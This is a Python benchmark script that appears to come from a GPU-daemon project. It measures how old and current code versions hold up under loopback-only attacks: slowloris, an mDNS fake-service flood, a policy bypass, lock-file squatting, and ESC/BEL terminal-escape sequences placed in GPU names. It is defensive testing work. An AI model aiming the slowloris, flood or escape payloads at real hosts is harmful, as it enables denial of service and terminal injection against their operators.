"""Issue 9, finding 7: a daemon under a slowloris and under a flood of fake services, before/after;
with ``--local``, issue 39's local rows (39.4, 39.6 to 39.11), each a bounded scenario, before/after.

    python bench/bench_attacks.py [--connections 1000] [--services 1000] [--seconds 10] [--old REV]
    python bench/bench_attacks.py --local [--old REV]

For each code version (this tree, and with ``--old REV`` the ``src/`` of that git revision, e.g.
``bc3d827``, unpacked into a temporary directory), one real background daemon (``gpusd start``,
simulated GPUs, HTTP and mDNS on 127.0.0.1 only, its own session and state directory) is started
with an open-file soft limit of 1024 (a common default), then attacked from this process:

1. **slowloris**: ``--connections`` connections to its HTTP port, each sending half a request head
   and one more header byte every 2 s; any connection the daemon closes is opened again at once.
2. **service flood**: ``--services`` fake ``_gpusd._tcp`` services of the daemon's session announced
   from a zeroconf bound to 127.0.0.1, each pointing at a tar pit on 127.0.0.1 (accepts connections,
   never answers), and one ``GET /api/v1/fleet`` to make the daemon follow them.

During each attack (``--seconds`` long) a client sends ``GET /api/v1/gpus`` once every 0.5 s on a
new connection (timeout 5 s).  Printed per version and attack: answers, failures, the slowest
answer, and how much the daemon's log (``gpusd.log`` and its rotated files) grew.  Everything stops
by itself; nothing leaves 127.0.0.1.

``--identity``: issue 39's identity and request attacks instead (rows 1, 2, 3, 5 in process, row 12
on two loopback daemons), per version, with ``--old REV`` before and after: bench/_attacks_identity.py.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import resource
import secrets
import shutil
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "src"))

HEAD = b"GET /api/v1/gpus HTTP/1.1\r\nHost: 127.0.0.1\r\nX-a: "
SOFT_LIMIT = 1024


@dataclass
class Probe:
    ok: int = 0
    failed: int = 0
    latencies: list[float] = field(default_factory=list)

    def row(self) -> str:
        worst = max(self.latencies) if self.latencies else float("nan")
        return f"{self.ok} | {self.failed} | {1000 * worst:.0f}"


def fd_count(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


async def max_fds(pid: int, stop: asyncio.Event) -> int:
    most = 0
    while not stop.is_set():
        most = max(most, fd_count(pid))
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(stop.wait(), 0.25)
    return most


def log_bytes(state: Path) -> int:
    return sum(p.stat().st_size for p in state.glob("gpusd.log*") if p.is_file())


def start_daemon(src: Path, state: Path, session: str) -> tuple[int, int]:
    """``gpusd start`` (background) from ``src``; returns (pid, port)."""
    import json

    env = dict(os.environ, PYTHONPATH=str(src), GPUSD_STATE_DIR=str(state), GPUSD_INTERFACES="127.0.0.1",
               GPUSD_MDNS_FAST="1")
    env.pop("GPUSD_TOKEN", None)

    def low_limit() -> None:
        _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(SOFT_LIMIT, hard), hard))

    r = subprocess.run([sys.executable, "-m", "gpusd", "start", "--simulate", "2xA100-80GB", "--interface",
                        "127.0.0.1", "--port", "0", "--session", session, "--hostname", "bench-attacked"],
                       env=env, capture_output=True, text=True, timeout=60, preexec_fn=low_limit, check=False)
    if r.returncode != 0:
        raise SystemExit(f"the daemon did not start: {r.stderr}")
    info = json.loads((state / "gpusd.json").read_text())
    return int(info["pid"]), int(info["port"])


def stop_daemon(src: Path, state: Path, pid: int) -> None:
    env = dict(os.environ, PYTHONPATH=str(src), GPUSD_STATE_DIR=str(state))
    subprocess.run([sys.executable, "-m", "gpusd", "stop", "--force", "--timeout", "10"], env=env,
                   capture_output=True, timeout=60, check=False)
    with contextlib.suppress(ProcessLookupError):
        os.kill(pid, 0)
        os.kill(pid, 9)


async def probe(port: int, seconds: float, path: str = "/api/v1/gpus") -> Probe:
    import aiohttp

    out = Probe()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        t = time.perf_counter()
        try:
            async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(force_close=True)) as s, \
                    s.get(f"http://127.0.0.1:{port}{path}", timeout=aiohttp.ClientTimeout(total=5)) as r:
                await r.read()
                good = r.status == 200
        except Exception:  # noqa: BLE001 - a failure is what we count
            good = False
        if good:
            out.ok += 1
            out.latencies.append(time.perf_counter() - t)
        else:
            out.failed += 1
        await asyncio.sleep(max(0.0, 0.5 - (time.perf_counter() - t)))
    return out


async def slowloris(port: int, n: int, seconds: float) -> tuple[int, int]:
    """Keep ``n`` half-open connections for ``seconds``; returns (connections opened, closed by the daemon)."""
    conns: dict[int, asyncio.StreamWriter] = {}
    opened = closed = 0
    end = time.monotonic() + seconds

    async def one(i: int) -> None:
        nonlocal opened
        try:
            _, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port), 3)
            w.write(HEAD)
            conns[i] = w
            opened += 1
        except (OSError, asyncio.TimeoutError):
            pass

    while time.monotonic() < end:
        missing = [i for i in range(n) if i not in conns]
        for k in range(0, len(missing), 200):
            await asyncio.gather(*(one(i) for i in missing[k:k + 200]))
        for i, w in list(conns.items()):
            if w.transport.is_closing() or w.transport.get_extra_info("socket") is None:
                del conns[i]
                closed += 1
                continue
            try:
                w.write(b"a")  # one more header byte: the classic slowloris keep-alive
            except (OSError, RuntimeError):
                del conns[i]
                closed += 1
        await asyncio.sleep(2.0)
        for i, w in list(conns.items()):  # connections the daemon closed: reader at EOF
            reader = getattr(w, "_protocol", None)
            stream = getattr(reader, "_stream_reader", None)
            if stream is not None and stream.at_eof():
                w.transport.abort()
                del conns[i]
                closed += 1
    for w in conns.values():
        w.transport.abort()
    return opened, closed


async def flood(port: int, session: str, n: int, seconds: float) -> tuple[Probe, str]:
    """Announce ``n`` fake services pointing at a tar pit, ask for the fleet, probe the API."""
    import aiohttp
    from zeroconf import ServiceInfo

    from gpusd.wire.mdns import open_zeroconf
    from gpusd.wire.txt import SERVICE_TYPE, encode_txt

    held: list[asyncio.StreamWriter] = []

    async def tarpit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        held.append(writer)  # accept, never answer

    pit = await asyncio.start_server(tarpit, "127.0.0.1", 0, backlog=2048)
    pit_port = pit.sockets[0].getsockname()[1]
    zc = await open_zeroconf(["127.0.0.1"])
    tag = secrets.token_hex(3)
    infos = [ServiceInfo(SERVICE_TYPE, f"fake-{tag}-{i}.{SERVICE_TYPE}", port=pit_port, server=f"fake-{tag}-{i}.local.",
                         parsed_addresses=["127.0.0.1"],
                         properties=encode_txt(node_id=f"{tag}{i:05d}", hostname=f"fake-{i}", session=session,
                                               inventory=[("A100-SXM4-80GB", 81920)], free=1))
             for i in range(n)]
    fleet = "?"
    try:
        for k in range(0, n, 100):
            tasks = await asyncio.gather(*(zc.async_register_service(i, cooperating_responders=True)
                                           for i in infos[k:k + 100]))
            await asyncio.gather(*tasks)

        async def ask_fleet() -> str:
            t = time.perf_counter()
            try:
                async with aiohttp.ClientSession() as s, s.get(f"http://127.0.0.1:{port}/api/v1/fleet",
                                                               timeout=aiohttp.ClientTimeout(total=30)) as r:
                    body = await r.json()
                    return (f"HTTP {r.status} in {time.perf_counter() - t:.1f} s, {len(body.get('hosts', []))} "
                            f"hosts listed, {body.get('hosts_dropped', 'n/a')} dropped")
            except Exception as exc:  # noqa: BLE001
                return f"failed after {time.perf_counter() - t:.1f} s ({exc.__class__.__name__})"

        fleet_task = asyncio.ensure_future(ask_fleet())
        result = await probe(port, seconds)
        fleet = await fleet_task
    finally:
        with contextlib.suppress(Exception):
            await asyncio.wait_for(zc.async_close(), 10)  # goodbyes for every fake service
        pit.close()
        for w in held:
            w.transport.abort()
    return result, fleet


async def attack(label: str, src: Path, args: argparse.Namespace) -> list[str]:
    state = Path(tempfile.mkdtemp(prefix="gpusd-bench-attack-"))
    session = f"attack-{secrets.token_hex(3)}"
    rows: list[str] = []
    pid, port = start_daemon(src, state, session)
    try:
        await asyncio.sleep(1.0)
        base = await probe(port, 2.0)
        before = log_bytes(state)
        rows.append(f"| {label} | none | {base.row()} | {log_bytes(state) - before} | |")

        async def phase(name: str, loris: int, services: int) -> None:
            before = log_bytes(state)
            stop = asyncio.Event()
            fds = asyncio.ensure_future(max_fds(pid, stop))
            attackers = []
            if loris:
                attackers.append(asyncio.ensure_future(slowloris(port, loris, args.seconds + 3)))
                await asyncio.sleep(3.0)  # let the connections pile up first
            if services:
                during, fleet = await flood(port, session, services, args.seconds)
                notes = [f"fleet: {fleet}"]
            else:
                during, notes = await probe(port, args.seconds), []
            for a in attackers:
                opened, closed = await a
                notes.insert(0, f"{opened} opened, {closed} closed by the daemon")
            stop.set()
            notes.append(f"daemon fds at most {await fds}")
            rows.append(f"| {label} | {name} | {during.row()} | {log_bytes(state) - before} | {'; '.join(notes)} |")
            await asyncio.sleep(2.0)

        await phase(f"slowloris, {args.connections} connections", args.connections, 0)
        await phase(f"flood, {args.services} fake services", 0, args.services)
        await phase("both at once", args.connections, args.services)
    finally:
        stop_daemon(src, state, pid)
        if args.keep_logs:
            print(f"{label}: the daemon's log is in {state}", file=sys.stderr)
        else:
            shutil.rmtree(state, ignore_errors=True)
    return rows


# -- issue 39, the local rows (39.4, 39.6 to 39.11): each a short scenario run against a code version ----
# Every scenario runs gpusd from ``src`` in subprocesses, in a temporary directory of its own (lock
# directory, state, lease socket), on simulated GPUs and 127.0.0.1; each is bounded by its timeouts and
# leaves nothing running.  A row says what the attacker got.


def _local_env(src: Path, tmp: Path, **extra: str) -> dict[str, str]:
    env = dict(os.environ, PYTHONPATH=str(src), GPUSD_STATE_DIR=str(tmp / "state"), GPUSD_INTERFACES="127.0.0.1",
               GPUSD_MDNS_FAST="1", GPUSD_LOCK_DIR=str(tmp / "locks"),
               GPUSD_LEASE_SOCKET=str(tmp / "run" / "lease.sock"))
    for var in ("GPUSD_TOKEN", "GPUSD_TOKEN_FILE", "GPUSD_POLICY", "GPUSD_SIMULATE", "CUDA_VISIBLE_DEVICES",
                "ROCR_VISIBLE_DEVICES", "HIP_VISIBLE_DEVICES", "ZE_AFFINITY_MASK", "GPU_DEVICE_ORDINAL"):
        env.pop(var, None)
    env.update(extra)
    return env


def _gpusd(env: dict[str, str], *args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "gpusd", *args], env=env, capture_output=True, text=True,
                          timeout=timeout, check=False)


def _key(tmp: Path) -> Path:
    key = tmp / "fleet.key"
    key.write_text(secrets.token_hex(32) + "\n")
    key.chmod(0o600)
    return key


def attack_39_4(src: Path, tmp: Path) -> str:
    """A cap of 1; the attacker bypasses the daemon with its own policy file: what the admin sees."""
    import json

    cap = tmp / "cap.json"
    cap.write_text(json.dumps({"max_gpus_per_user": 1}))
    cap.chmod(0o644)
    env = _local_env(src, tmp, GPUSD_POLICY=str(cap))  # the daemon's and the viewer's (stricter: allowed)
    r = _gpusd(env, "start", "--simulate", "3xA100-80GB", "--port", "0", "--session", f"b39-{secrets.token_hex(3)}")
    if r.returncode != 0:
        return f"daemon did not start: {r.stderr.strip()[:120]}"
    attacker = subprocess.Popen([sys.executable, "-m", "gpusd", "run", "-n", "2", "--simulate", "3xA100-80GB", "--",
                                 "sleep", "30"], env=dict(env, GPUSD_LEASE_SOCKET="off", GPUSD_POLICY="/nonexistent"),
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        held: list[dict[str, object]] = []
        end = time.monotonic() + 20
        while time.monotonic() < end and len(held) < 2 and attacker.poll() is None:
            out = _gpusd(env, "leases", "--json").stdout
            held = [le for le in json.loads(out or "{}").get("leases", []) if not le.get("unleased")]
            time.sleep(0.2)
        if attacker.poll() is not None:
            return f"the bypassing run -n 2 was refused (exit {attacker.returncode})"
        marked = sum(1 for le in held if le.get("outside_authority"))
        flagged = sum(1 for le in held if le.get("over_cap"))
        return (f"{len(held)} GPUs leased past the daemon under a cap of 1; {marked} shown as not through the "
                f"authority, {flagged} flagged over the cap")
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(attacker.pid, 9)
        attacker.wait()
        _gpusd(env, "stop", "--force")


def attack_39_4_root(src: Path, tmp: Path) -> str:
    """The same bypass, the root policy's cap (here: the module's path, in a process of that code)."""
    code = (
        "import json,os,sys; from gpusd.alloc import policy; p=sys.argv[1]; open(p,'w').write(json.dumps("
        "{'max_gpus_per_user':1})); os.chmod(p,0o644); policy.FAIR_USE_PATH=policy.POLICY_PATH=p\n"
        "from gpusd.alloc.api import LeaseRequest, allocate; from gpusd.alloc.select import Constraints\n"
        "try:\n sel=allocate(LeaseRequest(Constraints(count=2), simulate='3xA100-80GB')); print('leased', "
        "len(sel.devices))\nexcept Exception as e: print('refused:', str(e)[:90])")
    env = _local_env(src, tmp, GPUSD_LEASE_SOCKET="off", GPUSD_POLICY="/nonexistent")
    r = subprocess.run([sys.executable, "-c", code, str(tmp / "root-policy.json")], env=env, capture_output=True,
                       text=True, timeout=60, check=False)
    return (r.stdout.strip() or r.stderr.strip()[-120:]).replace("|", "/")


def attack_39_6(src: Path, tmp: Path) -> str:
    """A directory squatting fair-share.json in the lock directory: does the daemon's summary still reach
    the waiters?  (The daemon's own writing step, as each version does it.)"""
    code = (
        "import os,sys; from pathlib import Path; from gpusd.alloc import policy; from gpusd.alloc.leases import "
        "LeaseStore\nlocks=LeaseStore().dir; locks.mkdir(parents=True, exist_ok=True); os.chmod(locks, 0o1777)\n"
        "(locks/'fair-share.json').mkdir()\nstate=Path(os.environ['GPUSD_STATE_DIR']); state.mkdir(mode=0o755)\n"
        "new=hasattr(policy,'shares_dir')\n"
        "try:\n policy.write_shares(state if new else locks, {'alice': 3.0}, 7)\n"
        "except OSError as e: print('the write failed:', e.strerror); sys.exit()\n"
        "got=policy.read_shares() if new else policy.read_shares(locks)\n"
        "print('waiters read the summary' if got else 'waiters read no summary: first come, first served')")
    r = subprocess.run([sys.executable, "-c", code], env=_local_env(src, tmp), capture_output=True, text=True,
                       timeout=60, check=False)
    return (r.stdout.strip() or r.stderr.strip()[-120:]).replace("|", "/")


def attack_39_7(src: Path, tmp: Path) -> str:
    """A GPU named with ESC/BEL sequences: control bytes in what /metrics serves."""
    code = (
        "from gpusd.model import GpuInfo, HostSnapshot; from gpusd.daemon.metrics import render_snapshots\n"
        "name='\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mNVIDIA A100\\x07'*6\n"
        "s=HostSnapshot(hostname='h', node_id='n', timestamp=0.0, gpus=[GpuInfo(index=0, uuid='GPU-1', name=name, "
        "memory_total=1, memory_used=0, memory_free=1, utilization_gpu=1.0)])\n"
        "t=render_snapshots([s], dcgm=True)\nprint(sum(1 for b in t if b < 32 and b != 10), 'control bytes "
        "(', t.count(27), 'ESC) in /metrics')")
    r = subprocess.run([sys.executable, "-c", code], env=_local_env(src, tmp), capture_output=True, text=True,
                       timeout=60, check=False)
    return (r.stdout.strip() or r.stderr.strip()[-120:]).replace("|", "/")


def attack_39_8(src: Path, tmp: Path) -> str:
    """``eval "$(gpusd env -n 99)"`` in a shell whose AMD and Intel variables name a GPU."""
    env = _local_env(src, tmp, GPUSD_SIMULATE="2xA100-80GB")
    script = (f'export ROCR_VISIBLE_DEVICES=GPU-4a1b2c3d4e5f6a7b HIP_VISIBLE_DEVICES=0 ZE_AFFINITY_MASK=0; '
              f'eval "$({sys.executable} -m gpusd env -n 99 2>/dev/null)"; '
              'echo "ROCR=${ROCR_VISIBLE_DEVICES-unset} HIP=${HIP_VISIBLE_DEVICES-unset} ZE=${ZE_AFFINITY_MASK-unset}"')
    r = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, timeout=60, check=False)
    shown = r.stdout.strip()
    still = [w for w in shown.split() if w in ("ROCR=GPU-4a1b2c3d4e5f6a7b", "HIP=0", "ZE=0")]
    verdict = f"fails open: {len(still)} still name a GPU" if still else "no GPU named"
    return f"after the failing env: {shown} ({verdict})"


def attack_39_9(src: Path, tmp: Path) -> str:
    """A daemon without the secret; the admin starts it again with --token-file to turn trust on."""
    env = _local_env(src, tmp)
    r = _gpusd(env, "start", "--simulate", "1xT4", "--port", "0", "--session", f"b39-{secrets.token_hex(3)}")
    if r.returncode != 0:
        return f"daemon did not start: {r.stderr.strip()[:120]}"
    try:
        r = _gpusd(env, "start", "--token-file", str(_key(tmp)))
        said = r.stdout + r.stderr
        named = "yes" if "--token-file" in said else "no"
        return (f"exit {r.returncode}; told 'already running' as if all were well: "
                f"{'yes' if r.returncode == 0 else 'no'}; names --token-file: {named}")
    finally:
        _gpusd(env, "stop", "--force")


def attack_39_10(src: Path, tmp: Path) -> str:
    """A daemon whose lease socket directory cannot be made (the old unit), trust on: its start line."""
    env = _local_env(src, tmp, GPUSD_LEASE_SOCKET="/proc/gpusd-bench/lease.sock")
    r = _gpusd(env, "start", "--simulate", "1xT4", "--port", "0", "--session", f"b39-{secrets.token_hex(3)}",
               "--token-file", str(_key(tmp)))
    if r.returncode != 0:
        return f"daemon did not start: {r.stderr.strip()[:120]}"
    try:
        line = r.stdout.splitlines()[0]
        return (f"start line names HTTPS: {'yes' if 'https://' in line else 'no'}; says it is not the lease "
                f"authority: {'yes' if 'NOT the lease authority' in line else 'no'}")
    finally:
        _gpusd(env, "stop", "--force")


LOCAL_ATTACKS = [("39.4", "bypass the daemon, the client picks the policy (cap 1, daemon's view)", attack_39_4),
                 ("39.4", "bypass the daemon with GPUSD_POLICY=/nonexistent (root policy, cap 1)", attack_39_4_root),
                 ("39.6", "squat fair-share.json in the lock directory", attack_39_6),
                 ("39.7", "GPU named with ESC/BEL: /metrics", attack_39_7),
                 ("39.8", "failing gpusd env with AMD/Intel variables set", attack_39_8),
                 ("39.9", "second start with --token-file", attack_39_9),
                 ("39.10/11", "authority off, trust on: the start line", attack_39_10)]


def local_attacks(versions: list[tuple[str, Path]]) -> None:
    rows = []
    for label, src in versions:
        for row, what, fn in LOCAL_ATTACKS:
            tmp = Path(tempfile.mkdtemp(prefix="gpusd-b39-", dir="/tmp"))
            os.chmod(tmp, 0o755)
            t = time.monotonic()
            try:
                got = fn(src, tmp)
            except Exception as exc:  # noqa: BLE001 - a row that cannot run says so
                got = f"could not run: {type(exc).__name__}: {exc}"[:150]
            finally:
                shutil.rmtree(tmp, ignore_errors=True)
            rows.append(f"| {row} | {what} | {label} | {got} | {time.monotonic() - t:.1f} |")
    print("| row | attack | code | what the attacker got | seconds |")
    print("|---|---|---|---|---|")
    for r in rows:
        print(r)


def old_tree(rev: str) -> Path:
    tmp = Path(tempfile.mkdtemp(prefix="gpusd-old-"))
    archive = subprocess.run(["git", "-C", str(REPO), "archive", rev, "src"], capture_output=True, check=True).stdout
    subprocess.run(["tar", "-x", "-C", str(tmp)], input=archive, check=True)
    return tmp


async def main_async(args: argparse.Namespace) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # the attacker needs descriptors too
    versions = [("this tree", REPO / "src")]
    cleanup: list[Path] = []
    if args.old:
        old = old_tree(args.old)
        cleanup.append(old)
        versions.insert(0, (f"old ({args.old})", old / "src"))
    rows: list[str] = []
    try:
        for label, src in versions:
            rows += await attack(label, src, args)
    finally:
        for p in cleanup:
            shutil.rmtree(p, ignore_errors=True)
    print(f"daemon open-file soft limit at start: {SOFT_LIMIT}; each attack {args.seconds:g} s; "
          f"GET /api/v1/gpus every 0.5 s on a new connection, 5 s timeout")
    print()
    print("| code | attack | answers | failures | slowest answer ms | log growth bytes | notes |")
    print("|---|---|---|---|---|---|---|")
    for row in rows:
        print(row)


def identity(args: argparse.Namespace) -> int:
    """Issue 39's identity and request rows, per code version (bench/_attacks_identity.py)."""
    sys.path.insert(0, str(Path(__file__).resolve().parent))
    from _attacks_identity import report

    versions = [("this tree", REPO / "src")]
    old = old_tree(args.old) if args.old else None
    if old is not None:
        versions.insert(0, (f"old ({args.old})", old / "src"))
    try:
        rows = report(versions, min(args.seconds, 30.0))
    finally:
        if old is not None:
            shutil.rmtree(old, ignore_errors=True)
    print("| code | row (issue 39) | what the attacker got |")
    print("|---|---|---|")
    for row in rows:
        print(row)
    return 0


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--connections", type=int, default=1000)
    ap.add_argument("--services", type=int, default=1000)
    ap.add_argument("--seconds", type=float, default=10.0, help="length of each attack (default 10)")
    ap.add_argument("--keep-logs", action="store_true", help="keep each daemon's state directory (and log)")
    ap.add_argument("--old", metavar="REV", help="also attack the daemon of this git revision (e.g. bc3d827)")
    ap.add_argument("--local", action="store_true",
                    help="run issue 39's local rows (caps, fair share, control bytes, fail closed, second start, "
                    "start line) instead")
    ap.add_argument("--identity", action="store_true",
                    help="instead: issue 39's identity and request attacks (rows 1, 2, 3, 5, 12: "
                    "bench/_attacks_identity.py)")
    args = ap.parse_args()
    if args.identity:
        return identity(args)
    if args.local:
        versions = [("this tree", REPO / "src")]
        old = old_tree(args.old) if args.old else None
        if old is not None:
            versions.insert(0, (f"old ({args.old})", old / "src"))
        try:
            local_attacks(versions)
        finally:
            if old is not None:
                shutil.rmtree(old, ignore_errors=True)
        return 0
    if not 1 <= args.connections <= 5000 or not 1 <= args.services <= 5000 or not 1 <= args.seconds <= 60:
        ap.error("bounded: at most 5000 connections/services and 60 s per attack")
    asyncio.run(main_async(args))
    return 0


if __name__ == "__main__":
    sys.exit(main())
